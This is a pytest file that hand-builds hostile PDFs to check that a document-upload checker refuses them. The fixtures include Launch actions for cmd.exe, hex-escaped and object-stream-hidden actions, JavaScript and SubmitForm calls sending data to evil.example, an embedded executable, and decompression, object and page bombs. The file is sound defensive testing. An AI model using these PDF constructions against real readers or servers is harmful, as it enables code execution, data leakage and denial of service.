"""Hostile PDFs (issue 17, findings 1 and 2): active content the old byte-pattern check let through, and one bomb per
budget of the checker (inflated bytes, objects, pages), each refused with a reason while the server's own memory
stays flat because the child process does the parsing.

The PDFs are written byte by byte here (pypdf's writer would normalise the tricks away: hex-escaped names,
keys run together, actions inside compressed object streams).
"""

from __future__ import annotations

import io
import re
import zlib
from pathlib import Path

import pytest
from sqlalchemy import func, select

from disclosure.cases import pdf_check
from disclosure.cases.documents import DocumentRejected, inspect_document, run_pdf_check
from disclosure.cases.models import Document
from disclosure.extensions import db
from tests.conftest import csrf_from
from tests.documents import pdf
from tests.factories import MadeUser, make_case


@pytest.fixture
def case_ref(app, login_as):
    user = login_as("intake")
    with app.app_context():
        return make_case(logged_by=MadeUser(user.id, user.email, user.password, None)).reference


def upload(client, reference, content, filename):
    token = csrf_from(client.get(f"/cases/{reference}").get_data(as_text=True))
    return client.post(
        f"/cases/{reference}/documents",
        content_type="multipart/form-data",
        data={"csrf_token": token, "kind": "legal_process", "file": (io.BytesIO(content), filename)},
    )


PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]%s>>"


def raw_pdf(objects: list[bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF with these objects numbered from 1 (object 1 is the catalog), a classic cross-reference table and a
    trailer pointing at the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"", *, compress: bool = True) -> bytes:
    if compress:
        data, entries = zlib.compress(data), entries + b"/Filter/FlateDecode"
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), entries, data)


def document(*, catalog: bytes = b"", page: bytes = b"", more: tuple[bytes, ...] = ()) -> bytes:
    """Catalog 1, page tree 2, one page 3 (with a small compressed content stream 4), then `more` from object 5."""
    return raw_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            PAGE % (b"/Contents 4 0 R" + page),
            stream(b"BT /F1 12 Tf 72 720 Td (Warrant) Tj ET"),
            *more,
        ]
    )


def link(action: bytes) -> bytes:
    """A page with one link annotation (object 5) whose action is `action`."""
    return document(page=b"/Annots[5 0 R]", more=(b"<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A%s>>" % action,))


def in_object_stream(action: bytes) -> bytes:
    """The link's annotation kept inside a compressed object stream, so its bytes never appear in the file."""
    annotation = b"<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A%s>>" % action
    header = b"5 0 "
    packed = stream(header + annotation, b"/Type/ObjStm/N 1/First %d" % len(header))
    body = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        PAGE % b"/Contents 4 0 R/Annots[5 0 R]",
        stream(b"BT ET"),
        b"null",  # object 5 lives in object stream 6; a cross-reference stream says so below
        packed,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, item in enumerate(body, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, item)
    rows = [b"\x00\x00\x00\x00\xff\xff"]
    for number, offset in enumerate(offsets, start=1):
        rows.append(
            b"\x02" + (6).to_bytes(4, "big") + b"\x00" if number == 5 else b"\x01" + offset.to_bytes(4, "big") + b"\x00"
        )
    xref_at = len(out)
    rows.append(b"\x01" + xref_at.to_bytes(4, "big") + b"\x00")
    out += b"7 0 obj\n" + stream(b"".join(rows), b"/Type/XRef/Size 8/W[1 4 1]/Root 1 0 R") + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


JS_STREAM = stream(b"app.launchURL('https://evil.example/' + this.URL);")

CORPUS = {
    # The four uploads the review got through.
    "a link that launches cmd.exe": (link(b"<</F(cmd.exe)/S/Launch>>"), "starts a program"),
    "a hex-escaped /L#61unch": (link(b"<</S /L#61unch /F (cmd.exe)>>"), "starts a program"),
    "a SubmitForm action": (link(b"<</F<</FS/URL/F(https://evil.example/c)>>/S/SubmitForm>>"), "sends form data"),
    "a GoToR to a UNC path": (link(rb"<</S /GoToR /F (\\\\host\\share\\x.pdf) /D[0 /Fit]>>"), "opens another file"),
    # Where else actions live.
    "JavaScript in an annotation's /AA": (
        document(
            page=b"/Annots[5 0 R]",
            more=(b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/AA<</E<</S/JavaScript/JS 6 0 R>>>>>>", JS_STREAM),
        ),
        "JavaScript",
    ),
    "an outline item's action": (
        document(
            catalog=b"/Outlines 5 0 R",
            more=(
                b"<</Type/Outlines/First 6 0 R/Last 6 0 R/Count 1>>",
                b"<</Title(Exhibit A)/Parent 5 0 R/A<</S/Launch/Win<</F(calc.exe)>>>>>>",
            ),
        ),
        "starts a program",
    ),
    "a form field's action": (
        document(
            catalog=b"/AcroForm<</Fields[5 0 R]>>",
            page=b"/Annots[5 0 R]",
            more=(b"<</FT/Btn/T(go)/Type/Annot/Subtype/Widget/Rect[0 0 9 9]/A<</S/ImportData/F(data.fdf)>>>>",),
        ),
        "imports data",
    ),
    "an embedded file": (
        document(
            catalog=b"/Names<</EmbeddedFiles<</Names[(invoice.exe) 5 0 R]>>>>",
            more=(b"<</Type/Filespec/F(invoice.exe)/EF<</F 6 0 R>>>>", stream(b"MZ", b"/Type/EmbeddedFile")),
        ),
        "embedded file",
    ),
    "an XFA form": (
        document(catalog=b"/AcroForm<</Fields[]/XFA 5 0 R>>", more=(stream(b"<xdp:xdp/>"),)),
        "XFA form",
    ),
    "a file: URI": (link(b"<</S/URI/URI(file:///C:/Windows/System32/calc.exe)>>"), "not a web page"),
    "a javascript: URI": (link(b"<</S/URI/URI( JavaScript:app.alert\\(1\\))>>"), "not a web page"),
    "a Launch hidden in a compressed object stream": (
        in_object_stream(b"<</S/Launch/F(cmd.exe)>>"),
        "starts a program",
    ),
    "a web link that opens by itself": (
        document(catalog=b"/OpenAction<</S/URI/URI(https://tracker.example/opened)>>"),
        "runs by itself",
    ),
}


@pytest.mark.parametrize("name", list(CORPUS))
def test_active_content_is_refused_with_a_reason_wherever_it_hides(name):
    content, reason = CORPUS[name]
    with pytest.raises(DocumentRejected) as refused:
        inspect_document(content, "warrant.pdf")
    message = str(refused.value)
    assert "active content" in message and reason in message, message
    assert "Print it to a new PDF" in message


def test_a_clean_pdf_with_web_links_a_table_of_contents_and_an_opening_page_is_accepted():
    clean = document(
        catalog=b"/OpenAction[3 0 R /Fit]/Outlines 7 0 R",
        page=b"/Annots[5 0 R 6 0 R]",
        more=(
            b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://www.justice.gov/criminal)>>>>",
            b"<</Type/Annot/Subtype/Link/Rect[9 9 19 19]/A<</S/URI/URI(http://example.org/case)>>>>",
            b"<</Type/Outlines/First 8 0 R/Last 8 0 R/Count 1>>",
            b"<</Title(Page 1)/Parent 7 0 R/A<</S/GoTo/D[3 0 R /Fit]>>>>",
        ),
    )
    assert inspect_document(clean, "warrant.pdf").content_type == "application/pdf"
    assert inspect_document(pdf(pages=3), "warrant.pdf").content_type == "application/pdf"


def inflation_bomb(streams: int = 10, each: int = 50 * 1024 * 1024) -> bytes:
    """One page drawn from `streams` content streams, each a few kB that inflate to `each` bytes (500 MB in all)."""
    packer = zlib.compressobj(9)
    chunk = b"\n" * (1024 * 1024)  # packed a megabyte at a time, so making the bomb does not raise our own peak
    packed = b"".join(packer.compress(chunk) for _ in range(each // len(chunk))) + packer.flush()
    contents = b"".join(b"%d 0 R " % (4 + index) for index in range(streams))
    body = b"<</Length %d/Filter/FlateDecode>>\nstream\n%s\nendstream" % (len(packed), packed)
    return raw_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            PAGE % (b"/Contents[" + contents + b"]"),
        ]
        + [body] * streams
    )


def object_bomb() -> bytes:
    """A one-page PDF listing more objects than the checker visits."""
    filler = [b"null"] * (pdf_check.MAX_OBJECTS + 10)
    return raw_pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", PAGE % b"", *filler])


def page_bomb() -> bytes:
    """One page object referenced more times than the page budget allows: small file, huge page count."""
    kids = b"3 0 R " * (pdf_check.MAX_PAGES + 1)
    return raw_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, pdf_check.MAX_PAGES + 1),
            PAGE % b"",
        ]
    )


BOMBS = {
    "inflated bytes": (inflation_bomb, "expands to far more"),
    "objects": (object_bomb, "objects"),
    "pages": (page_bomb, "pages"),
}
#: How much the server process's peak memory may grow while a bomb is uploaded (the body itself, the form, the page).
SERVER_GROWTH_LIMIT_MB = 96


def reset_peak_memory() -> None:
    """Start the peak (VmHWM) afresh from the current resident size (Linux: clear_refs 5), so that what the test
    session did before (other tests build a 900-megapixel image) cannot hide a rise."""
    Path("/proc/self/clear_refs").write_text("5")


def peak_memory_mb() -> float:
    status = Path("/proc/self/status").read_text()
    return int(re.search(r"VmHWM:\s+(\d+)", status).group(1)) / 1024  # type: ignore[union-attr]


def resident_memory_mb() -> float:
    status = Path("/proc/self/status").read_text()
    return int(re.search(r"VmRSS:\s+(\d+)", status).group(1)) / 1024  # type: ignore[union-attr]


@pytest.mark.parametrize("budget", list(BOMBS))
def test_each_budget_refuses_its_bomb_and_the_server_memory_stays_flat(app, client, case_ref, budget):
    make, reason = BOMBS[budget]
    content = make()
    reset_peak_memory()
    before = resident_memory_mb()
    response = upload(client, case_ref, content, "bomb.pdf")
    growth = peak_memory_mb() - before
    body = response.get_data(as_text=True)
    assert response.status_code == 400, body[:500]
    assert "too complex to check safely" in body and reason in body, re.sub(r"\s+", " ", body)[-1500:]
    assert growth < SERVER_GROWTH_LIMIT_MB, f"the server's peak memory grew by {growth:.0f} MB ({len(content):,} bytes)"
    with app.app_context():
        assert db.session.execute(select(func.count()).select_from(Document)).scalar_one() == 0
    print(f"{budget}: {len(content):,} bytes upload, server peak grew {growth:.1f} MB")


def test_a_hostile_link_upload_is_refused_through_the_web_form(app, client, case_ref):
    response = upload(client, case_ref, CORPUS["a hex-escaped /L#61unch"][0], "warrant.pdf")
    assert response.status_code == 400
    assert "starts a program" in response.get_data(as_text=True)


def test_a_checker_that_is_killed_or_runs_out_of_time_is_a_refusal_not_a_pass():
    verdict = run_pdf_check(inflation_bomb(streams=1, each=1024), timeout=0.001)
    assert verdict["ok"] is False and "too complex to check safely" in verdict["reason"]


def test_the_checker_runs_with_its_own_address_space_limit():
    import subprocess
    import sys

    from disclosure.cases.documents import PACKAGE_ROOT

    probe = (
        "import resource; from disclosure.cases import pdf_check; pdf_check.limit_resources(); "
        "print(resource.getrlimit(resource.RLIMIT_AS)[0]); bytearray(2 * pdf_check.ADDRESS_SPACE_LIMIT)"
    )
    child = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, env={"PYTHONPATH": str(PACKAGE_ROOT)}, check=False
    )
    assert int(child.stdout.split()[0]) == pdf_check.ADDRESS_SPACE_LIMIT
    assert child.returncode != 0 and b"MemoryError" in child.stderr
